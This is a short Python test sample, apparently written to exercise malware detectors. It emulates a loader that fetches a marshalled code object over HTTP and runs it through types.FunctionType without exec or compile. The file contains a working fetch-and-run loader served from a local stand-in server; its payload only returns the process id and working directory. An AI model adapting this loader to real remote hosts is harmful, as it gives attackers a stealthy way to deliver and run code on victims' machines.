# technique: T1059.006 T1105 T1027 T1620
"""Second stage shipped as a marshalled code object and run via types.FunctionType (T1105, T1059.006, T1027, T1620).

Seen in Python loaders that avoid exec/eval entirely: the C2 serves
marshal.dumps(code); the loader fetches it with http.client, calls
marshal.loads and wraps the code object in types.FunctionType(code, globals)
and calls it. No compile() of source text happens in the victim process.

A good detector raises a high alert: a code object deserialised from network
bytes is executed.
"""
import http.client, http.server, marshal, threading, types

def _stage2():
    import os
    return os.getpid(), os.getcwd()
BODY = marshal.dumps(_stage2.__code__)
del _stage2

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Length", str(len(BODY))); self.end_headers()
        self.wfile.write(BODY)
    def log_message(self, *a): pass

srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    conn = http.client.HTTPConnection("127.0.0.1", srv.server_address[1], timeout=3)
    conn.request("GET", "/update.bin")
    code = marshal.loads(conn.getresponse().read())
    types.FunctionType(code, {"__builtins__": __builtins__})()
except Exception:
    pass
finally:
    srv.shutdown()
